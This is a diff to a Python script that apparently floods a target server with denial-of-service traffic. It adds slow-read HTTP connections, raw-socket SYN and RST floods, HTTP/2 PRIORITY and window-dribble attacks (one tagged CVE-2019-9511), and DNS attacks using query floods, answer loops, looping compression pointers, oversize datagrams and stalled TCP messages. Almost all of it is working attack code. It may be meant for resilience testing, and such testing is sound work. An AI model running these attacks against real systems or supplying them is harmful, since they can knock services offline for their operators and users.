@@ -53,6 +53,17 @@ def unread():
     hold(open_ones)
 
 
+def sips():
+    """Answers that are read byte by byte: the window closes and opens."""
+    open_ones = [connect(small=True) for _ in range(count)]
+    for s in open_ones:
+        s.sendall(b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n")
+    print("at work", flush=True)
+    while True:
+        for s in open_ones:
+            s.recv(1)
+
+
 def bytewise():
     """Requests in segments of one byte."""
     answered = 0
@@ -97,18 +108,33 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def half_open():
-    """SYNs to as many ports, of connections that nobody completes."""
+def segments(flags, ports):
+    """As many segments that belong to no connection: the ports of the n-th are `ports(n)`."""
     own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     own.connect((address, 9))
     ends = socket.inet_aton(own.getsockname()[0]) + socket.inet_aton(address)
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
     for number in range(count):
-        head = [40000 + number % 20000, 1 + number % 60000, number, 0, 5 << 4, 2, 1024, 0, 0]
+        head = [*ports(number), number, 0, 5 << 4, flags, 1024, 0, 0]
         pseudo = ends + struct.pack("!BBH", 0, 6, 20)
         head[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *head))
         s.sendto(struct.pack("!HHIIBBHHH", *head), (address, 0))
     hold()
+
+
+def half_open():
+    """SYNs to as many ports, of connections that nobody completes."""
+    segments(2, lambda number: (40000 + number % 20000, 1 + number % 60000))
+
+
+def syns():
+    """The same to one port that is open."""
+    segments(2, lambda number: (1024 + number % 60000, port))
+
+
+def rsts():
+    """Resets of connections that never were, at a port that is open."""
+    segments(4, lambda number: (1024 + number % 60000, port))
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -120,7 +146,8 @@ def text(value):
 
 
 HEAD = b"\x82\x86\x44" + text(b"/get") + b"\x41" + text(b"x")
-DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+BIG = HEAD.replace(text(b"/get"), text(b"/big"))
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 
 
 def http2(frames, settings=b""):
@@ -161,45 +188,123 @@ def http2_windows():
     http2(frame(HEADERS, 4, 1, HEAD) + frame(WINDOW, 0, 0, b"\0\0\0\1") * count)
 
 
+def http2_priority():
+    http2(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10") * count)
+
+
 def http2_bomb():
     # One long field that goes into the table, and its number again and again.
     field = b"\x40" + text(b"a") + b"\x7f" + bytes([0x80 | (3800 - 127) % 128, (3800 - 127) // 128]) + b"b" * 3800
     http2(frame(HEADERS, 4, 1, HEAD + field + b"\xbe" * count))
 
 
+def ask_big(window):
+    """Asks for something large over so many streams, each with this window."""
+    s = connect(small=True)
+    asked = b"".join(frame(HEADERS, 5, n, BIG) for n in range(1, 2 * count, 2))
+    s.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window)) + asked)
+    return s
+
+
 def http2_unread():
     """Streams that may not be answered: the client's window is closed."""
-    s = connect(small=True)
-    closed = struct.pack("!HI", 4, 0)
-    asked = b"".join(frame(HEADERS, 5, n, HEAD.replace(text(b"/get"), text(b"/big"))) for n in range(1, 2 * count, 2))
-    s.sendall(PREFACE + frame(SETTINGS, 0, 0, closed) + asked)
-    hold(s)
+    hold(ask_big(0))
 
 
-def lookups():
-    """Look-ups of names that nobody has, faster than they are answered."""
+def http2_dribble():
+    """Windows that open by one byte at a time (CVE-2019-9511)."""
+    s = ask_big(0)
+    opened = b"".join(frame(WINDOW, 0, n, b"\0\0\0\1") for n in range(1, 2 * count, 2))
+    s.sendall(frame(WINDOW, 0, 0, b"\x10\0\0\0"))
+    print("at work", flush=True)
+    while True:
+        s.sendall(opened)
+        s.recv(65536)
+
+
+def query(number, name, flags=256, questions=1):
+    return struct.pack("!6H", number % 65536, flags, questions, 0, 0, 0) + name + b"\0\1\0\1"
+
+
+def name(*labels):
+    return b"".join(text(label) for label in labels) + b"\0"
+
+
+def datagrams(each):
+    """As many datagrams; says how many were answered."""
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for number in range(count):
-        name = text(b"n%d" % number) + text(b"flood") + b"\0"
-        s.sendto(struct.pack("!6H", number % 65536, 256, 1, 0, 0, 0) + name + b"\0\1\0\1", (address, port))
-    hold()
-
-
-def dns_loop():
-    """Answers sent as if they were queries: who answers those answers for ever."""
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    for number in range(count):
-        name = text(b"loop") + b"\0"
-        s.sendto(struct.pack("!6H", number % 65536, 0x8180, 1, 0, 0, 0) + name + b"\0\1\0\1", (address, port))
+        s.sendto(each(number), (address, port))
     s.settimeout(1)
     heard = 0
     try:
-        while s.recv(600):
+        while s.recv(65536):
             heard += 1
     except OSError:
         pass
     print(heard, "heard", flush=True)
     hold()
+
+
+def lookups():
+    """Look-ups of ever new names, faster than they are answered."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for number in range(count):
+        s.sendto(query(number, name(b"n%d" % number, b"flood")), (address, port))
+    hold()
+
+
+def dns_loop():
+    """Answers sent as if they were queries: who answers those answers for ever."""
+    datagrams(lambda number: query(number, name(b"loop"), flags=0x8180))
+
+
+def dns_pointers():
+    """Names that lead back to themselves, and names that are a chain of many pointers."""
+    def record(owner, data=b""):
+        return owner + struct.pack("!HHIH", 65280, 1, 0, len(data)) + data
+
+    first = 12 + len(name(b"n", b"flood")) + 4 + 11
+    chain = [12] + [first + 2 * n for n in range(200)]
+    pointers = [struct.pack("!H", 0xC000 | place) for place in chain]
+    long = query(0, name(b"n", b"flood")) + record(b"\0", b"".join(pointers[:-1])) + record(pointers[-1])
+    long = long[:10] + b"\0\2" + long[12:]
+    itself = query(0, b"\xc0\x0c")
+    datagrams(lambda number: itself if number % 2 else long)
+
+
+def dns_oversize():
+    """Datagrams as large as there are, and counts of entries that are not there."""
+    plain = name(b"n", b"flood")
+    datagrams(lambda number: query(number, plain, questions=65535) if number % 2 else query(number, plain) + bytes(60000))
+
+
+def dns_slow():
+    """Over TCP: lengths that come byte by byte, of messages that never do."""
+    open_ones = [connect() for _ in range(count)]
+    for s in open_ones:
+        s.sendall(b"\0")
+    print("at work", flush=True)
+    time.sleep(0.3)
+    for s in open_ones:
+        s.sendall(b"\x20")
+    hold(open_ones)
+
+
+def dns_unread():
+    """Over TCP: queries that are refused, and refusals that nobody reads."""
+    s = connect(small=True)
+    message = query(1, name(b"secret", b"denied"))
+    s.settimeout(3)
+    sent = 0
+    try:
+        for _ in range(count):
+            s.sendall((struct.pack("!H", len(message)) + message) * 100)
+            sent += 100
+    except OSError:
+        pass
+    print(sent, "sent", flush=True)
+    hold(s)
 
 
 globals()[kind]()
